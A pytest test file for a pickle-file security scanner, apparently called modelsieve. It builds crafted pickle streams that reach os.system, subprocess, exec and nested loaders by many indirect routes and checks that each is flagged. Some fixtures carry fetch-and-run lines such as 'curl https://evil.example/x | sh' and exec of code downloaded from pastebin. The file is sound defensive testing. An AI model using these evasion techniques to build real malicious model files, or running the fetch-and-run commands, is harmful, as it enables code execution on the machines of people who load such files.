"""Resolution of indirect callables, policy context, and plain-words behaviour."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import pickle
import struct
import zlib

import pytest
from pk import P2, P4, analyse, behaviours, bu, call, g, ids, of, os_system, serious, sg, su, t1

from modelsieve.model import IndicatorKind


def subjects(data: bytes, rule: str = "PKL001") -> list[str]:
    return [f.subject for f in of(analyse(data), rule)]


def test_getattr_import_os_system() -> None:
    mod = call(g("builtins", "__import__"), bu("os"))
    data = P2 + call(call(g("builtins", "getattr"), mod, bu("system")), bu("ls")) + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_importlib_import_module_then_getattr() -> None:
    mod = call(g("importlib", "import_module"), bu("subprocess"))
    data = P2 + call(call(g("inspect", "getattr_static"), mod, bu("call")), bu("ls")) + pickle.STOP
    assert subjects(data) == ["subprocess.call"]


def test_attrgetter_and_methodcaller() -> None:
    mod = call(g("builtins", "__import__"), bu("os"))
    getter = call(call(g("operator", "attrgetter"), bu("system")), mod)
    assert subjects(P2 + call(getter, bu("ls")) + pickle.STOP) == ["os.system"]
    caller = call(call(g("operator", "methodcaller"), bu("system"), bu("ls")), mod)
    assert subjects(P2 + caller + pickle.STOP) == ["os.system"]


def test_partial_called_later() -> None:
    part = call(g("functools", "partial"), g("os", "system"), bu("ls"))
    assert subjects(P2 + call(part) + pickle.STOP) == ["os.system"]


def test_partial_pickled_by_the_real_pickler_is_resolved() -> None:
    import functools
    import os

    data = pickle.dumps(functools.partial(os.system, "ls"), protocol=2)
    inner = data[:-1] + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP
    assert {"os.system", "posix.system"} & set(subjects(inner))


def test_pkgutil_resolve_name() -> None:
    data = P2 + call(call(g("pkgutil", "resolve_name"), bu("os:system")), bu("ls")) + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_sys_modules_lookup() -> None:
    mods = call(g("builtins", "getattr"), g("sys", "modules"), bu("get"))
    os_mod = call(mods, bu("os"))
    data = P2 + call(call(g("builtins", "getattr"), os_mod, bu("system")), bu("ls")) + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_vars_of_builtins_lookup() -> None:
    ns = call(g("builtins", "vars"), call(g("builtins", "__import__"), bu("builtins")))
    ev = call(g("operator", "getitem"), ns, bu("eval"))
    assert subjects(P2 + call(ev, bu("1+1")) + pickle.STOP) == ["builtins.eval"]


def test_dotted_names_and_aliases() -> None:
    assert subjects(P4 + sg("builtins", "eval.__call__") + t1(su("1")) + pickle.REDUCE + pickle.STOP) == [
        "builtins.eval"
    ]
    assert subjects(P4 + sg("glob", "os.system") + t1(su("ls")) + pickle.REDUCE + pickle.STOP) == ["os.system"]
    assert subjects(P2 + call(g("posix", "system"), bu("ls")) + pickle.STOP) == ["posix.system"]
    assert subjects(b"c__builtin__\neval\n(S'1'\ntR.") == ["__builtin__.eval"]


def test_dunder_walk_is_pkl013() -> None:
    data = P4 + sg("builtins", "print.__class__.__base__.__subclasses__") + pickle.EMPTY_TUPLE + pickle.REDUCE
    assert "PKL013" in ids(analyse(data + pickle.STOP))


def test_stack_global_from_computed_string() -> None:
    name = call(g("builtins", "str.join"), su(""), pickle.MARK + su("sys") + su("tem") + pickle.LIST)
    data = P4 + su("os") + name + pickle.STACK_GLOBAL + t1(su("ls")) + pickle.REDUCE + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_stack_global_from_unknown_value_is_pkl005() -> None:
    name = call(g("mystery", "make_name"))
    data = P4 + su("os") + name + pickle.STACK_GLOBAL + t1(su("ls")) + pickle.REDUCE + pickle.STOP
    assert "PKL005" in ids(analyse(data))


def test_build_setstate_injection() -> None:
    obj = g("collections", "OrderedDict") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    inject = pickle.NONE + pickle.EMPTY_DICT + su("__setstate__") + g("os", "system") + pickle.SETITEM + pickle.TUPLE2
    data = P2 + obj + inject + pickle.BUILD + bu("ls") + pickle.BUILD + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_build_on_module_is_pkl014_and_feeds_later_lookup() -> None:
    module = g("glob", "os")
    patch = pickle.NONE + pickle.EMPTY_DICT + su("innocent") + g("os", "system") + pickle.SETITEM + pickle.TUPLE2
    data = P2 + module + patch + pickle.BUILD + pickle.POP
    data += call(g("os", "innocent"), bu("ls")) + pickle.STOP
    analysis = analyse(data)
    assert "PKL014" in ids(analysis)
    assert [f.subject for f in of(analysis, "PKL001")] == ["os.system"]


def test_map_invokes_dangerous_function() -> None:
    mapped = call(g("builtins", "map"), g("os", "system"), pickle.MARK + bu("ls") + pickle.LIST)
    data = P2 + call(g("builtins", "list"), mapped) + pickle.STOP
    assert "os.system" in subjects(data)


def test_dangerous_reference_not_called_is_pkl002() -> None:
    data = P2 + pickle.MARK + g("os", "system") + pickle.LIST + pickle.STOP
    analysis = analyse(data)
    assert [f.subject for f in of(analysis, "PKL002")] == ["os.system"]
    assert "PKL001" not in ids(analysis)


def test_unknown_function_is_pkl003_and_main_class_is_pkl004() -> None:
    assert subjects(P2 + call(g("somepkg.util", "do_things"), bu("x")) + pickle.STOP, "PKL003") == [
        "somepkg.util.do_things"
    ]
    data = P2 + g("__main__", "MyNet") + pickle.EMPTY_TUPLE + pickle.NEWOBJ + pickle.EMPTY_DICT + pickle.BUILD
    analysis = analyse(data + pickle.STOP)
    (finding,) = of(analysis, "PKL004")
    assert finding.subject == "__main__"
    assert "needs code from module __main__" in finding.message


def test_getattr_of_allowed_class_is_not_a_finding() -> None:
    """Ultralytics / transformers: pickled bound methods and enum members via getattr, plus builtins.set."""
    model = g("ultralytics.nn.tasks", "DetectionModel") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    method = call(g("builtins", "getattr"), model, bu("forward"))
    enum_member = call(g("builtins", "getattr"), g("transformers.trainer_utils", "IntervalStrategy"), bu("STEPS"))
    names = call(g("builtins", "set"), pickle.MARK + bu("a") + pickle.LIST)
    device = call(g("torch", "device"), bu("cpu"))
    args = g("transformers.training_args", "TrainingArguments") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    state = pickle.MARK + su("eval") + enum_member + su("dev") + device + su("s") + names + pickle.DICT
    data = P2 + pickle.MARK + method + args + state + pickle.BUILD
    data += call(g("accelerate.state", "PartialState")) + pickle.LIST + pickle.STOP
    analysis = analyse(data)
    assert not serious(analysis), analysis.findings


def test_getattr_with_computed_name_is_pkl005() -> None:
    data = P2 + call(g("builtins", "getattr"), g("os", "path"), call(g("x.y", "name"))) + pickle.STOP
    assert "PKL005" in ids(analyse(data))


@pytest.mark.parametrize(
    ("encode", "decoder"),
    [
        (base64.b64encode, ("base64", "b64decode")),
        (base64.b32encode, ("base64", "b32decode")),
        (base64.b85encode, ("base64", "b85decode")),
        (lambda b: b.hex().encode(), ("binascii", "unhexlify")),
        (zlib.compress, ("zlib", "decompress")),
        (gzip.compress, ("gzip", "decompress")),
        (bz2.compress, ("bz2", "decompress")),
        (lzma.compress, ("lzma", "decompress")),
    ],
)
def test_nested_pickle_loads_of_decoded_bytes(encode: object, decoder: tuple[str, str]) -> None:
    inner = P2 + os_system("id") + pickle.STOP
    blob = encode(inner)  # type: ignore[operator]
    decoded = call(g(*decoder), pickle.SHORT_BINBYTES + bytes([len(blob)]) + blob if len(blob) < 256 else b"")
    data = P2 + call(g("pickle", "loads"), decoded) + pickle.STOP
    analysis = analyse(data)
    assert "PKL006" in ids(analysis)
    nested = of(analysis, "PKL001")
    assert [f.subject for f in nested] == ["os.system"]
    assert nested[0].location.members and "nested pickle" in nested[0].location.members[-1]


def test_nested_codecs_hex_and_bytesio() -> None:
    inner = (P2 + os_system("id") + pickle.STOP).hex()
    raw = call(g("_codecs", "decode"), bu(inner), bu("hex"))
    data = P2 + call(g("_pickle", "load"), call(g("_io", "BytesIO"), raw)) + pickle.STOP
    analysis = analyse(data)
    assert [f.subject for f in of(analysis, "PKL006")] == ["_pickle.load"]
    assert [f.subject for f in of(analysis, "PKL001")] == ["os.system"]


def test_codecs_encode_latin1_is_benign() -> None:
    data = P2 + call(g("_codecs", "encode"), bu("\x00\x01abc"), bu("latin1")) + pickle.STOP
    assert not analyse(data).findings


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (call(g("webbrowser", "open"), bu("https://example.test/x")), "opens a web browser at https://example.test/x"),
        (call(g("pdb", "set_trace")), "starts the pdb debugger"),
        (call(g("builtins", "exec"), bu("print(1)")), "executes Python code: `print(1)`"),
        (
            call(g("os", "system"), bu("curl https://pastebin.com/raw/abc | sh")),
            "downloads https://pastebin.com/raw/abc",
        ),
        (call(g("pip", "main"), pickle.MARK + bu("install") + bu("evilpkg") + pickle.LIST), "installs package via pip"),
        (call(g("ctypes", "CDLL"), bu("libevil.so")), "loads native library libevil.so"),
        (call(g("builtins", "open"), bu("/tmp/x"), bu("w")), "writes file /tmp/x"),
        (call(g("subprocess", "Popen"), pickle.MARK + bu("ls") + bu("-l") + pickle.LIST), "runs shell command `ls -l`"),
    ],
)
def test_behaviour_in_plain_words(payload: bytes, expected: str) -> None:
    descriptions = behaviours(analyse(P2 + payload + pickle.STOP))
    assert any(expected in d for d in descriptions), descriptions


def test_exec_of_downloaded_code() -> None:
    url = "https://pastebin.com/raw/abc"
    fetched = call(call(g("builtins", "getattr"), call(g("urllib.request", "urlopen"), bu(url)), bu("read")))
    analysis = analyse(P2 + call(g("builtins", "exec"), fetched) + pickle.STOP)
    assert any(f"downloads {url} and executes it" in d for d in behaviours(analysis))
    assert {"builtins.exec", "urllib.request.urlopen"} <= {f.subject for f in of(analysis, "PKL001")}
    inds = {i.value for f in analysis.findings for i in f.indicators if i.kind is IndicatorKind.URL}
    assert url in inds


def test_marshal_functiontype_is_code_execution() -> None:
    code = call(g("marshal", "loads"), pickle.SHORT_BINBYTES + b"\x03abc")
    func = call(g("types", "FunctionType"), code, pickle.EMPTY_DICT)
    analysis = analyse(P2 + call(func) + pickle.STOP)
    assert "types.FunctionType" in [f.subject for f in of(analysis, "PKL001")]
    assert "PKL006" in ids(analysis)


def test_string_constants_surface_indicators() -> None:
    data = P2 + pickle.MARK + bu("model card at https://evil.example/payload") + pickle.LIST + pickle.STOP
    analysis = analyse(data)
    assert any(i.value == "https://evil.example/payload" for f in analysis.findings for i in f.indicators)
    assert not serious(analysis)


def test_submodule_of_dangerous_module_is_dangerous() -> None:
    target = g("asyncio.unix_events", "_UnixSubprocessTransport._start")
    assert subjects(P4 + call(target, pickle.NONE, bu("touch x")) + pickle.STOP) == [
        "asyncio.unix_events._UnixSubprocessTransport._start"
    ]


def test_setattr_monkey_patch_then_lookup() -> None:
    patch = call(g("builtins", "setattr"), g("glob", "os"), bu("nice"), g("os", "system"))
    analysis = analyse(P2 + patch + pickle.POP + call(g("os", "nice"), bu("ls")) + pickle.STOP)
    assert "PKL014" in ids(analysis)
    assert "os.system" in [f.subject for f in of(analysis, "PKL001")]


def test_py2_apply_invokes_its_function() -> None:
    assert subjects(b"c__builtin__\napply\n(cos\nsystem\n(S'ls'\nttR.") == ["os.system"]


def test_gadget_object_alone_is_only_a_capability() -> None:
    data = P2 + call(g("bdb", "Bdb")) + pickle.STOP
    analysis = analyse(data)
    assert "PKL001" not in ids(analysis)
    assert [f.subject for f in of(analysis, "PKL002")] == ["bdb.Bdb"]


def test_gadget_method_call_is_dangerous() -> None:
    interp = call(g("code", "InteractiveInterpreter"))
    run = call(call(g("builtins", "getattr"), interp, bu("runcode")), bu("print(1)"))
    analysis = analyse(P2 + run + pickle.STOP)
    assert "code.InteractiveInterpreter.runcode" in [f.subject for f in of(analysis, "PKL001")]
    assert any("executes Python code: `print(1)`" in d for d in behaviours(analysis))


def test_pickled_functions_are_capabilities_until_called() -> None:
    """dill/cloudpickle rebuild functions from code objects: reported (PKL002), not called (no PKL001)."""
    dill = pytest.importorskip("dill")
    cloudpickle = pytest.importorskip("cloudpickle")
    for data in (dill.dumps(lambda x: x + 1), cloudpickle.dumps(lambda x: x + 1)):
        analysis = analyse(data)
        assert "PKL001" not in ids(analysis), analysis.findings
        assert "PKL002" in ids(analysis)


def test_pickled_function_called_in_stream_is_pkl001() -> None:
    dill = pytest.importorskip("dill")
    data = dill.dumps(lambda: None)
    analysis = analyse(data[:-1] + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP)
    assert "types.FunctionType" in [f.subject for f in of(analysis, "PKL001")]


def test_defaultdict_factory_runs_on_missing_key() -> None:
    factory = call(g("functools", "partial"), g("os", "system"), bu("ls"))
    dd = call(g("collections", "defaultdict"), factory)
    assert subjects(P2 + call(g("operator", "getitem"), dd, bu("k")) + pickle.STOP) == ["os.system"]


def test_reconstructor_with_a_base_runs_its_init() -> None:
    popen = g("subprocess", "Popen")
    argv = pickle.MARK + bu("ls") + pickle.LIST
    assert "subprocess.Popen" in subjects(P2 + call(g("copyreg", "_reconstructor"), popen, popen, argv) + pickle.STOP)


def test_inverted_registry_written_by_setitem_opcode() -> None:
    reg = g("copyreg", "_inverted_registry") + pickle.BININT1 + b"\xe7" + bu("os") + bu("system") + pickle.TUPLE2
    data = P2 + reg + pickle.SETITEM + pickle.POP + pickle.EXT1 + b"\xe7" + t1(bu("ls")) + pickle.REDUCE + pickle.STOP
    analysis = analyse(data)
    assert "PKL007" in ids(analysis)
    assert [f.subject for f in of(analysis, "PKL001")] == ["os.system"]


def test_replaced_special_method_fires_on_instances() -> None:
    """BUILD sets Terminal.__hash__ = subprocess.getoutput; hashing an instance (a dict key) runs it."""
    cls = g("email._header_value_parser", "Terminal")
    state = pickle.NONE + pickle.EMPTY_DICT + su("__hash__") + g("subprocess", "getoutput") + pickle.SETITEM
    data = P2 + cls + state + pickle.TUPLE2 + pickle.BUILD + pickle.POP
    data += pickle.EMPTY_DICT + call(cls, bu("id"), bu("x")) + pickle.NONE + pickle.SETITEM + pickle.STOP
    analysis = analyse(data)
    assert "PKL014" in ids(analysis)
    assert "subprocess.getoutput" in [f.subject for f in of(analysis, "PKL001")]


@pytest.mark.parametrize(
    "name",
    [
        call(g("builtins", "str.format"), bu("{}{}"), bu("sys"), bu("tem")),
        call(
            g("operator", "getitem"),
            bu("xxsystemxx"),
            call(g("builtins", "slice"), pickle.BININT1 + b"\x02", pickle.BININT1 + b"\x08"),
        ),
        call(call(g("builtins", "getattr"), bu(""), bu("join")), call(g("builtins", "reversed"), bu("metsys"))),
        call(g("builtins", "str.__mod__"), bu("%s%s"), pickle.MARK + bu("sys") + bu("tem") + pickle.TUPLE),
    ],
)
def test_computed_attribute_names(name: bytes) -> None:
    os_mod = call(g("builtins", "__import__"), bu("os"))
    # Protocol 4: dotted names such as ``str.format`` are followed by the loader only from protocol 4 on.
    data = P4 + call(call(g("builtins", "getattr"), os_mod, name), bu("ls")) + pickle.STOP
    assert subjects(data) == ["os.system"]


def test_format_with_width_is_not_computed() -> None:
    """A padding width would let the stream allocate gigabytes in the scanner: left unknown."""
    name = call(g("builtins", "str.format"), bu("{:>999999999}"), bu("x"))
    os_mod = call(g("builtins", "__import__"), bu("os"))
    analysis = analyse(P2 + call(call(g("builtins", "getattr"), os_mod, name), bu("ls")) + pickle.STOP)
    assert "PKL005" in ids(analysis)


def test_unpickler_object_load_is_a_nested_loader() -> None:
    inner = P2 + os_system("id") + pickle.STOP
    blob = pickle.SHORT_BINBYTES + bytes([len(inner)]) + inner
    unpickler = call(g("pickle", "Unpickler"), call(g("io", "BytesIO"), blob))
    data = P2 + call(call(g("builtins", "getattr"), unpickler, bu("load"))) + pickle.STOP
    analysis = analyse(data)
    assert [f.subject for f in of(analysis, "PKL006")] == ["pickle.Unpickler.load"]
    assert "os.system" in [f.subject for f in of(analysis, "PKL001")]


@pytest.mark.parametrize(
    "deferred",
    [
        call(g("multiprocessing.util", "Finalize"), pickle.NONE, g("os", "system"), t1(bu("ls"))),
        call(g("weakref", "finalize"), call(g("builtins", "object")), g("os", "system"), bu("ls")),
        call(g("threading", "Timer"), pickle.BININT1 + b"\x00", g("os", "system"), t1(bu("ls"))),
    ],
)
def test_deferred_callbacks_count_as_calls(deferred: bytes) -> None:
    assert "os.system" in subjects(P2 + deferred + pickle.STOP)


def _short_binbytes(data: bytes) -> bytes:
    return pickle.SHORT_BINBYTES + bytes([len(data)]) + data


def test_indicators_in_byte_payloads_are_found_in_their_printable_runs() -> None:
    import os as _os

    noise = bytes(b ^ 0x80 for b in _os.urandom(60))  # high bytes only: never printable
    payload = noise[:30] + b"curl https://evil.example/x | sh" + noise[30:]
    analysis = analyse(P2 + _short_binbytes(payload[:255]) + pickle.STOP)
    found = {i.value for f in analysis.findings for i in f.indicators}
    assert "https://evil.example/x" in found


def test_binary_noise_in_large_byte_payloads_raises_no_indicator() -> None:
    import random

    rng = random.Random(7)
    blob = bytes(rng.getrandbits(8) for _ in range(200_000))  # array-like bytes: beyond LARGE_PAYLOAD
    data = P2 + pickle.BINBYTES + struct.pack("<I", len(blob)) + blob + pickle.STOP
    assert not [f for f in analyse(data).findings if f.indicators]
